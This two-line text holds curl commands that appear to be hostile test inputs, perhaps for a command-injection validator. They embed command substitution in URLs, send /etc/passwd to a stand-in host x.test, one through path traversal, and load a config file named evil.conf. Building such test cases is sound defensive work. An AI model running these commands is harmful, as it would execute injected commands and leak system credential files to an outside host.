curl "https://x.test/$(touch owned)" -d @../../../etc/passwd -K evil.conf
curl https://x.test/`touch owned2` -F "f=@/etc/passwd"
